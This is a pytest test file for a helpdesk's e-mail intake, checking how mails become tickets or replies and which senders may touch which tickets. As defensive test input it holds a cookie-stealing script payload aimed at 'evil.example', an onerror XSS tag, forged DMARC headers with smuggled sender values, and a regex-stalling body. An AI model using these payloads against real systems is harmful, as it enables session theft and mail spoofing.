"""E-mail in against a real dovecot: what a mail becomes (a ticket, a reply, nothing) and who it may touch."""
from __future__ import annotations

from email.header import Header
from email.message import EmailMessage

import pytest
from sqlalchemy import select

from pulse_live import db
from pulse_live.markdown import to_html
from pulse_live.models import Attachment, MailOutbox, TeamMember, User
from pulse_live.services import chatter, mailboxes, tickets
from tests.factories import load_ticket, queue_ids

from .conftest import email_tickets, entries, imported, mail


async def _close(anna, ticket_id: int):
    from pulse_live.models import ResolutionCode
    async with db.session() as s:
        code = (await s.execute(select(ResolutionCode.id).where(ResolutionCode.name == 'Fixed'))).scalar_one()
    t = await load_ticket(ticket_id)
    t = await tickets.change_status(actor=anna, ticket_id=t.id, expected_version=t.version, status='resolved',
                                    resolution_code_id=code, resolution_text='Fixed it')
    return await tickets.change_status(actor=anna, ticket_id=t.id, expected_version=t.version, status='closed')


async def _outgoing_message_id(people, ticket_id: int) -> str:
    """A staff reply goes out to the (offline) customer: the Message-ID we sent, as their client will quote it."""
    await chatter.post_message(actor=people.users['anna@pulse.demo'], ticket_id=ticket_id,
                               body='Could you restart the client?')
    async with db.session() as s:
        return (await s.execute(select(MailOutbox.message_id).where(MailOutbox.ticket_id == ticket_id)
                                .order_by(MailOutbox.id.desc()).limit(1))).scalar_one()


async def test_a_new_mail_becomes_a_ticket_of_its_sender_in_the_mailbox_queue(people, box):
    await box.deliver(mail(subject='VPN down', body='The VPN drops every five minutes.\n\n-- \nCarl\nACME Finance'))
    await box.import_now()
    [ticket] = await email_tickets()
    assert ticket.title == 'VPN down'
    assert ticket.customer_id == people.users['carl@acme.demo'].id
    assert ticket.organisation_id == people.orgs['acme']
    assert ticket.queue_id == (await queue_ids())['2nd level']
    assert 'The VPN drops every five minutes.' in ticket.description
    assert 'ACME Finance' not in ticket.description  # the signature is trimmed
    [record] = await imported(box.id)
    assert (record.outcome, record.ticket_id) == ('ticket', ticket.id)
    async with db.session() as s:
        [original] = (await s.execute(select(Attachment).where(Attachment.ticket_id == ticket.id))).scalars()
    assert original.filename.endswith('.eml') and original.is_internal  # the whole mail, for staff


async def test_a_reply_by_in_reply_to_is_a_chatter_entry_without_the_quoted_history(people, box):
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Printer', customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    body = ('It works again, thanks!\n\nOn Tue, 1 Dec 2026 at 10:00, Pulse Live <helpdesk@pulse.local> wrote:\n'
            '> Could you restart the client?\n> Anna')
    await box.deliver(mail(subject=f'Re: [{ticket.reference}] Printer', body=body,
                           headers={'In-Reply-To': sent, 'References': sent}))
    await box.import_now()
    assert await email_tickets() == []
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == carl.id and not last.is_internal
    assert last.body == 'It works again, thanks!'
    assert (await imported(box.id))[0].outcome == 'reply'


async def test_a_reference_in_the_subject_attaches_only_when_the_sender_may_see_that_ticket(people, box):
    carl, eva = people.users['carl@acme.demo'], people.users['eva@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Eva’s laptop',
                                         customer_id=eva.id)
    before = len(await entries(ticket.id))
    tom = 'Tom Baker <tom@globex.demo>'
    await box.deliver(mail(sender=tom, subject=f'About {ticket.reference}', body='Let me in.'),
                      mail(sender='Carl Jensen <carl@acme.demo>', subject=f'Re: {ticket.reference}',
                           body='Carl (organisation admin) here: same on my side.'))
    await box.import_now()
    after = await entries(ticket.id)
    assert [e.actor_id for e in after[before:]] == [carl.id]  # Carl may see every ACME request; Tom none
    [toms] = await email_tickets()
    assert toms.customer_id == people.users['tom@globex.demo'].id and toms.organisation_id == people.orgs['globex']
    assert (await load_ticket(ticket.id)).customer_id == eva.id


async def test_a_forged_in_reply_to_never_attaches_to_another_organisations_ticket(people, box):
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Payroll export',
                                         customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    count = len(await entries(ticket.id))
    await box.deliver(mail(sender='Tom Baker <tom@globex.demo>', subject=f'Re: [{ticket.reference}] Payroll export',
                           body='Please send me the export.',
                           headers={'In-Reply-To': sent, 'References': f'<ticket-{ticket.id}@pulse-live> {sent}'}))
    await box.import_now()
    assert len(await entries(ticket.id)) == count
    stored = await load_ticket(ticket.id)
    assert stored.customer_id == carl.id
    [new] = await email_tickets()
    assert new.customer_id == people.users['tom@globex.demo'].id


async def test_html_mail_with_script_becomes_safe_text(people, box):
    html = ('<html><head><script>alert("head")</script></head><body><p>Hello <b>team</b>,</p>'
            '<script>document.location="https://evil.example/?c="+document.cookie</script>'
            '<img src=x onerror=alert(1)><p>see <a href="https://acme.demo/log">the log</a></p></body></html>')
    message = EmailMessage()
    message['From'], message['To'], message['Subject'] = 'carl@acme.demo', 'support@pulse.demo', 'HTML'
    message['Message-ID'] = '<html-1@acme.demo>'
    message.set_content(html, subtype='html')
    html_only = message.as_bytes()
    await box.deliver(html_only)
    await box.import_now()
    [ticket] = await email_tickets()
    assert 'Hello **team**' in ticket.description
    assert 'the log' in ticket.description
    for bad in ('<script', 'alert(', 'document.cookie', 'onerror'):
        assert bad not in ticket.description
    rendered = to_html(ticket.description)
    assert '<script' not in rendered and 'onerror' not in rendered


def test_a_body_of_unclosed_script_tags_is_read_at_once():
    """A mail of 320 KB of ``<script>`` never closed: reading it took about a minute (a regex that stripped scripts
    scanned to the end from each one), holding the interpreter lock — every page of the process stood still."""
    import time

    from pulse_live.services.mail_intake import parse_mail
    message = EmailMessage()
    message['From'], message['To'], message['Subject'] = 'x@evil.example', 'support@pulse.demo', 'hello'
    message.set_content('<p>Hello</p>' + '<script>' * 40000, subtype='html')
    started = time.process_time()
    parsed = parse_mail(message.as_bytes())
    assert time.process_time() - started < 5  # was ~60 s of CPU
    assert 'Hello' in parsed.body and '<script' not in parsed.body


async def test_iso_8859_1_body_and_encoded_word_subject_are_decoded(people, box):
    subject = Header('Drucker im 3. Stock: Grüße aus Zürich', 'iso-8859-1').encode()
    raw = mail(subject='placeholder-subject', body='Der Drucker druckt nur noch Kästchen. Grüße, Carl',
               charset='iso-8859-1')
    raw = raw.replace(b'placeholder-subject', subject.encode())
    assert b'=?iso-8859-1?' in raw
    await box.deliver(raw)
    await box.import_now()
    [ticket] = await email_tickets()
    assert ticket.title == 'Drucker im 3. Stock: Grüße aus Zürich'
    assert 'Kästchen' in ticket.description


async def test_attachments_are_stored_like_uploads(people, box):
    png = b'\x89PNG\r\n\x1a\n' + b'0' * 100
    await box.deliver(mail(attachments=[('screen.png', 'image/png', png), ('log.txt', 'text/plain', b'error 42')]))
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        files = {a.filename: (a.size, a.is_internal) for a in (await s.execute(
            select(Attachment).where(Attachment.ticket_id == ticket.id))).scalars()}
    assert files['screen.png'] == (len(png), False) and files['log.txt'] == (8, False)


async def test_an_oversized_mail_is_bounced_politely_and_kept_for_the_admin(people, box):
    from pulse_live.models import FailedImport
    from pulse_live.queries import mail_intake as intake_queries
    big = bytes(range(256)) * (30 * 1024 * 1024 // 256)  # a 30 MB attachment
    await box.deliver(mail(subject='Huge log', attachments=[('huge.log', 'application/octet-stream', big)]))
    await box.import_now()
    assert await email_tickets() == []
    async with db.session() as s:
        [failed] = (await s.execute(select(FailedImport))).scalars()
        [bounce] = (await s.execute(select(MailOutbox).where(MailOutbox.to_addr == 'carl@acme.demo'))).scalars()
    assert failed.sender == 'carl@acme.demo' and 'Too large' in failed.error and failed.size > 30 * 1024 * 1024
    assert 'could not accept' in bounce.body_text and 'Huge log' in bounce.subject
    rows = await intake_queries.failed_imports(people.users['admin@pulse.demo'])
    assert [r.subject for r in rows] == ['Huge log']
    # nothing lost: after raising the limit an admin retries it and it becomes a ticket
    import os

    from pulse_live.config import reset_settings
    from pulse_live.services import mail_intake
    os.environ['PULSE_MAIL_INTAKE_MAX_BYTES'] = str(60 * 1024 * 1024)
    os.environ['PULSE_MAX_UPLOAD_BYTES'] = str(40 * 1024 * 1024)
    reset_settings()
    try:
        outcome = await mail_intake.retry_failed(actor=people.users['admin@pulse.demo'], failed_id=failed.id)
    finally:
        del os.environ['PULSE_MAIL_INTAKE_MAX_BYTES'], os.environ['PULSE_MAX_UPLOAD_BYTES']
        reset_settings()
    assert outcome.outcome == 'ticket'
    assert [t.title for t in await email_tickets()] == ['Huge log']
    assert await intake_queries.failed_imports(people.users['admin@pulse.demo']) == []


async def test_auto_replies_and_bounces_never_become_tickets_or_reopen_one(people, box):
    carl = people.users['carl@acme.demo']
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Closed one', customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    ticket = await _close(anna, ticket.id)
    thread = {'In-Reply-To': sent, 'References': sent}
    await box.deliver(
        mail(subject='Out of office', body='I am away.', headers={**thread, 'Auto-Submitted': 'auto-replied'}),
        mail(subject='Newsletter', headers={'Precedence': 'bulk'}),
        mail(sender='MAILER-DAEMON <mailer-daemon@acme.demo>', subject='Undelivered',
             headers={'Return-Path': '<>'}),
        mail(sender='Pulse Live <helpdesk@pulse.local>', subject=f'[{ticket.reference}] Closed one',
             message_id='<abc@pulse-live>'),
    )
    await box.import_now()
    assert await email_tickets() == []
    assert (await load_ticket(ticket.id)).status == 'closed'
    assert [r.outcome for r in await imported(box.id)] == ['loop'] * 4
    async with db.session() as s:  # and nobody is answered
        assert (await s.execute(select(MailOutbox).where(MailOutbox.kind == 'account'))).first() is None


async def test_the_same_mail_twice_makes_one_ticket(people, box):
    raw = mail(subject='Twice')
    await box.deliver(raw, raw)
    await box.import_now()
    assert len(await email_tickets()) == 1
    assert [r.outcome for r in await imported(box.id)] == ['ticket', 'duplicate']


async def test_mails_without_message_id_are_deduplicated_by_their_headers(people, box):
    raw = mail(subject='No id', message_id=None)
    other = mail(subject='No id either', message_id=None)
    await box.deliver(raw, raw, other)
    await box.import_now()
    assert sorted(t.title for t in await email_tickets()) == ['No id', 'No id either']


async def test_a_reply_from_someone_on_cc_attaches_and_joins_the_team(people, box):
    eva = people.users['eva@acme.demo']
    first = mail(subject='Shared drive', body='We both cannot reach it.', message_id='<first@acme.demo>',
                 headers={'Cc': 'Eva Lindqvist <eva@acme.demo>, someone@elsewhere.example'})
    await box.deliver(first)
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        team = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert eva.id in team
    await box.deliver(mail(sender='Eva Lindqvist <eva@acme.demo>', subject='Re: Shared drive',
                           body='Still down for me.', headers={'In-Reply-To': '<first@acme.demo>'}))
    await box.import_now()
    assert len(await email_tickets()) == 1
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == eva.id and last.body == 'Still down for me.'
    assert (await load_ticket(ticket.id)).customer_id == people.users['carl@acme.demo'].id


GMAIL_SPF = ('spf=pass (google.com: domain of {who} designates 192.0.2.1 as permitted sender) '
             'smtp.mailfrom={who};')


@pytest.mark.parametrize('header, failed', [
    ('mx.google.com; ' + GMAIL_SPF.format(who='bounce@evil.example') + ' dmarc=fail (p=NONE) header.from=acme.demo',
     True),
    # what a forger chooses (the envelope sender) written into the server's header before its dmarc result
    ('mx.google.com; ' + GMAIL_SPF.format(who='"x;dmarc=pass"@evil.example') + ' dmarc=fail header.from=acme.demo',
     True),
    ('mx.google.com; ' + GMAIL_SPF.format(who='=?us-ascii?q?x=3Bdmarc=3Dpass?=@evil.example')
     + ' dmarc=fail header.from=acme.demo', True),
    ('mx.example; dmarc=pass header.from=evil.example; dmarc=fail header.from=acme.demo', True),
    ('mx.example; (checked) dmarc=fail header.from=acme.demo', True),
    ('dmarc=fail action=none header.from=acme.demo; compauth=fail', True),  # no server name (Microsoft)
    ('spf=fail (sender IP is 192.0.2.1) smtp.mailfrom=evil.example; dkim=none header.d=none;dmarc=fail action=none '
     'header.from=acme.demo;compauth=fail reason=000', True),
    ('mx.example; DMARC=FAIL header.from=acme.demo', True),
    ('mx.example; spf=pass (x;dmarc=fail) smtp.mailfrom=a@b.example; dmarc=pass', False),  # in a comment only
    ('mx.example; dmarc=pass header.from=acme.demo', False),
    ('mx.example; dmarc=none', False),
])
def test_a_dmarc_failure_is_read_from_the_server_s_own_words_only(header, failed):
    """Comments and quoted strings (where the sender's chosen address appears) are dropped and nothing is decoded
    before the results are read: an envelope sender "x;dmarc=pass"@… had made a forged mail count as passed."""
    from email import policy
    from email.parser import BytesParser

    from pulse_live.services.mail_intake import unverified_sender
    raw = (f'Authentication-Results: {header}\r\n'.encode() + b'Authentication-Results: forger.example; dmarc=pass\r\n'
           + mail(subject='Hello'))
    message = BytesParser(policy=policy.default).parsebytes(raw)
    assert bool(unverified_sender(message)) is failed


async def test_with_the_server_s_name_set_each_of_its_results_counts_and_no_other(people, monkeypatch):
    from email import policy
    from email.parser import BytesParser

    from pulse_live.config import reset_settings
    from pulse_live.services.mail_intake import unverified_sender
    monkeypatch.setenv('PULSE_MAIL_INTAKE_AUTHSERV_ID', 'mx.pulse.demo')
    reset_settings()

    def verdict(*headers: str) -> bool:
        raw = b''.join(f'Authentication-Results: {h}\r\n'.encode() for h in headers) + mail(subject='Hello')
        return bool(unverified_sender(BytesParser(policy=policy.default).parsebytes(raw)))
    assert verdict('mx.pulse.demo; spf=pass smtp.mailfrom=a@acme.demo', 'mx.pulse.demo; dmarc=fail')  # a 2nd filter
    assert not verdict('relay.example; dmarc=fail', 'mx.pulse.demo; dmarc=pass')  # not our server's words
    assert not verdict('mx.pulse.demo; spf=pass smtp.mailfrom=a@acme.demo')


async def test_a_forged_from_that_failed_dmarc_is_nobody_s_reply_and_opens_no_account(people, box, monkeypatch):
    """Anybody can write "From: carl@acme.demo". When the receiving server says the address failed DMARC, the mail
    is neither Carl's reply (with a Cc that joined an outsider to the ticket and made them a customer of ACME, who
    could then set a password) nor his request: a new ticket that needs triage, saying why."""
    carl = people.users['carl@acme.demo']
    genuine = mail(subject='Printer', message_id='<printer-1@acme.demo>')
    await box.deliver(genuine)
    await box.import_now()
    [ticket] = await email_tickets()
    entries_before = [e.id for e in await entries(ticket.id)]
    async with db.session() as s:
        team_before = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id)
                                           )).scalars())
    verdict = b'Authentication-Results: mx.pulse.demo; spf=softfail smtp.mailfrom=evil.example; dmarc=fail ' \
              b'(p=reject) header.from=acme.demo\r\n'
    forged = verdict + mail(subject='Re: Printer', body='Please add my colleague.',
                            headers={'In-Reply-To': '<printer-1@acme.demo>', 'Cc': 'spy@evil.example',
                                     'Authentication-Results': 'forger.example; dmarc=pass'})
    await box.deliver(forged)
    await box.import_now()
    assert [e.id for e in await entries(ticket.id)] == entries_before  # nothing was added to Carl's ticket
    [_, triage] = await email_tickets()
    assert triage.customer_id is None and 'failed DMARC' in triage.description
    await box.deliver(mail(sender='spy@evil.example', subject='Re: Printer', body='me too',
                           headers={'In-Reply-To': '<printer-1@acme.demo>'}))
    await box.import_now()
    async with db.session() as s:
        assert (await s.execute(select(User).where(User.email == 'spy@evil.example'))).scalar() is None
        team = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert team == team_before and carl.id in team  # no outsider joined
    # a result further down (added by whoever sent it) counts for nothing; a pass on top is taken as before
    passed = b'Authentication-Results: mx.pulse.demo; dmarc=pass header.from=acme.demo\r\n' + mail(
        subject='Re: Printer', body='It prints again.', headers={'In-Reply-To': '<printer-1@acme.demo>',
                                                              'Authentication-Results': 'x.example; dmarc=fail'})
    await box.deliver(passed)
    await box.import_now()
    assert (await entries(ticket.id))[-1].body == 'It prints again.'
    # the setting "ignore" takes a failed mail like any other
    from pulse_live.config import reset_settings
    monkeypatch.setenv('PULSE_MAIL_INTAKE_DMARC_FAIL', 'ignore')
    reset_settings()
    await box.deliver(verdict + mail(subject='Re: Printer', body='Ignored verdict.',
                                     headers={'In-Reply-To': '<printer-1@acme.demo>'}))
    await box.import_now()
    assert (await entries(ticket.id))[-1].body == 'Ignored verdict.'


async def test_a_bcc_or_unknown_address_never_replaces_the_customer(people, box):
    await box.deliver(mail(subject='Keyboard', message_id='<kb@acme.demo>'))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Mallory <mallory@evil.example>', subject='Re: Keyboard',
                           headers={'In-Reply-To': '<kb@acme.demo>'}, body='I am the customer now.'))
    await box.import_now()
    stored = await load_ticket(ticket.id)
    assert stored.customer_id == people.users['carl@acme.demo'].id
    assert all('customer now' not in e.body for e in await entries(ticket.id))
    triage = (await email_tickets())[-1]
    assert triage.customer_id is None and 'Needs triage' in triage.description


async def test_an_unknown_sender_of_a_known_domain_becomes_a_customer_there(people, box):
    admin = people.users['admin@pulse.demo']
    await mailboxes.set_mail_domains(actor=admin, organisation_id=people.orgs['acme'], domains=['acme.demo'])
    await box.deliver(mail(sender='Nina New <nina@acme.demo>', subject='Hello'))
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        nina = (await s.execute(select(User).where(User.email == 'nina@acme.demo'))).scalar_one()
    assert (nina.role, nina.organisation_id, nina.display_name) == ('customer', people.orgs['acme'], 'Nina New')
    assert ticket.customer_id == nina.id


async def test_a_reply_to_a_closed_ticket_reopens_it_or_opens_a_linked_one(people, box, monkeypatch):
    from pulse_live.config import reset_settings
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']

    async def closed(title: str):
        t = await tickets.create_ticket(actor=anna, title=title, customer_id=carl.id)
        return await _close(anna, t.id)
    one = await closed('Reopen me')
    await box.deliver(mail(subject=f'Re: [{one.reference}] Reopen me', body='It is broken again.'))
    await box.import_now()
    assert (await load_ticket(one.id)).status == 'open'
    assert (await entries(one.id))[-1].body == 'It is broken again.'

    monkeypatch.setenv('PULSE_MAIL_INTAKE_CLOSED_REPLY', 'new')
    reset_settings()
    two = await closed('Leave me closed')
    await box.deliver(mail(subject=f'Re: [{two.reference}] Leave me closed', body='Again!'))
    await box.import_now()
    assert (await load_ticket(two.id)).status == 'closed'
    [linked] = await email_tickets()
    assert two.reference in linked.description and linked.customer_id == carl.id


async def test_a_flood_from_one_sender_is_recorded_not_imported(people, box, monkeypatch):
    from pulse_live.config import reset_settings
    monkeypatch.setenv('PULSE_MAIL_INTAKE_FLOOD_PER_MINUTE', '3')
    reset_settings()
    await box.deliver(*[mail(subject=f'Spam {i}') for i in range(5)])
    await box.import_now()
    assert len(await email_tickets()) == 3
    assert [r.outcome for r in await imported(box.id)] == ['ticket'] * 3 + ['flood'] * 2


async def test_the_password_is_stored_encrypted(people, box):
    from pulse_live.models import Mailbox
    async with db.session() as s:
        stored = (await s.get(Mailbox, box.id)).secret_encrypted
    assert stored and 'secret' not in stored
    assert mailboxes.decrypt_secret(stored) == 'secret'


async def test_mail_we_send_is_marked_automated_and_its_reply_threads_back(people, box):
    """What a mail client does with our notification: Reply keeps the subject (with the reference), puts our
    Message-ID into In-Reply-To and appends it to References; the answer lands on the ticket."""
    from pulse_live.notify import compose
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Monitor', customer_id=carl.id)
    sent = compose.build(to_addr=carl.email, reference=ticket.reference, title='Monitor', ticket_id=ticket.id,
                         kind='update', items=[], message_id='<n1@pulse-live>')
    assert sent['Auto-Submitted'] == 'auto-generated' and sent['X-Auto-Response-Suppress'] == 'All'
    assert ticket.reference in sent['Subject']
    assert sent['Auto-Submitted'] and compose.build(to_addr=carl.email, reference='', title='', ticket_id=None,
                                                    kind='account', items=[], message_id='<a1@pulse-live>',
                                                    subject='Set your password', text='…')['Auto-Submitted']
    await box.deliver(mail(subject=f'Re: {sent["Subject"]}', body='Thanks, all good now.',
                           headers={'In-Reply-To': sent['Message-ID'],
                                    'References': f'{sent["References"]} {sent["Message-ID"]}'}))
    await box.import_now()
    assert (await entries(ticket.id))[-1].body == 'Thanks, all good now.'
    assert await email_tickets() == []


async def test_with_the_triage_setting_unknown_senders_are_never_made_customers(people, box, monkeypatch):
    from pulse_live.config import reset_settings
    await mailboxes.set_mail_domains(actor=people.users['admin@pulse.demo'], organisation_id=people.orgs['acme'],
                                     domains=['acme.demo'])
    monkeypatch.setenv('PULSE_MAIL_INTAKE_UNKNOWN_SENDER', 'triage')
    reset_settings()
    await box.deliver(mail(sender='Nina New <nina@acme.demo>', subject='Hello'))
    await box.import_now()
    [ticket] = await email_tickets()
    assert ticket.customer_id is None
    assert 'Needs triage' in ticket.description and 'nina@acme.demo' in ticket.description
    async with db.session() as s:
        assert (await s.execute(select(User).where(User.email == 'nina@acme.demo'))).first() is None


async def test_a_reply_from_an_unknown_address_on_cc_attaches_and_joins_the_team_as_a_contact(people, box):
    carl = people.users['carl@acme.demo']
    await box.deliver(mail(subject='Printer jam', body='Olga from our partner sees it too.',
                           message_id='<jam@acme.demo>', headers={'Cc': 'Olga Outside <olga@partner.example>'}))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Olga Outside <Olga@partner.example>', subject='Re: Printer jam',
                           body='Same here on floor 3.', headers={'In-Reply-To': '<jam@acme.demo>'}))
    await box.import_now()
    assert len(await email_tickets()) == 1  # never a new ticket
    async with db.session() as s:
        olga = (await s.execute(select(User).where(User.email == 'olga@partner.example'))).scalar_one()
        team = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert (olga.role, olga.organisation_id, olga.display_name) == ('customer', people.orgs['acme'], 'Olga Outside')
    assert olga.id in team
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == olga.id and last.body == 'Same here on floor 3.' and not last.is_internal
    assert (await load_ticket(ticket.id)).customer_id == carl.id  # the customer stays


async def test_an_unknown_address_not_on_cc_gets_no_account_and_no_access(people, box):
    await box.deliver(mail(subject='Printer jam', message_id='<jam2@acme.demo>',
                           headers={'Cc': 'Olga Outside <olga@partner.example>'}))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Eve <eve@partner.example>', subject='Re: Printer jam', body='Let me in.',
                           headers={'In-Reply-To': '<jam2@acme.demo>', 'Cc': 'olga@partner.example'}))
    await box.import_now()
    assert all(e.body != 'Let me in.' for e in await entries(ticket.id))
    async with db.session() as s:
        assert (await s.execute(select(User).where(User.email.like('%partner.example')))).first() is None
    triage = (await email_tickets())[-1]
    assert triage.id != ticket.id and triage.customer_id is None


async def test_an_unknown_sender_needs_triage_in_the_work_list_unassigned_in_the_mailbox_queue(people, box):
    from pulse_live.queries import queues as work
    anna = people.users['anna@pulse.demo']
    await box.deliver(mail(sender='Stranger <who@nowhere.example>', subject='Who handles this?'),
                      mail(subject='A known customer'))
    await box.import_now()
    by_title = {t.title: t for t in await email_tickets()}  # (imported side by side on PostgreSQL: any order)
    stranger, known = by_title['Who handles this?'], by_title['A known customer']
    listed = await work.open_tickets(anna, work.WorkFilters(triage=True))
    assert [r.reference for r in listed.rows] == [stranger.reference]
    [row] = listed.rows
    assert row.needs_triage and row.assignee_id is None and row.queue_id == (await queue_ids())['2nd level']
    everything = {r.reference: r.needs_triage for r in (await work.open_tickets(anna)).rows}
    assert everything[stranger.reference] and not everything[known.reference]
    # an agent sets the customer: no longer needs triage
    t = await load_ticket(stranger.id)
    await tickets.update_ticket(actor=anna, ticket_id=t.id, expected_version=t.version,
                                changes={'customer_id': people.users['carl@acme.demo'].id})
    assert (await work.open_tickets(anna, work.WorkFilters(triage=True))).rows == []


async def test_the_original_of_an_imported_mail_is_for_staff_only(people, box):
    from pulse_live.queries.tickets import attachment_for_download
    raw = mail(subject='Keep the original', message_id='<orig@acme.demo>')
    await box.deliver(raw)
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        original = (await s.execute(select(Attachment).where(Attachment.ticket_id == ticket.id,
                                                             Attachment.content_type == 'message/rfc822'))).scalar_one()
    assert original.is_internal
    staff = await attachment_for_download(people.users['anna@pulse.demo'], original.id)
    assert staff is not None
    from pulse_live import storage
    assert b'Message-ID: <orig@acme.demo>' in storage.path_of(staff.sha256).read_bytes()  # the whole mail as it came
    assert await attachment_for_download(people.users['carl@acme.demo'], original.id) is None
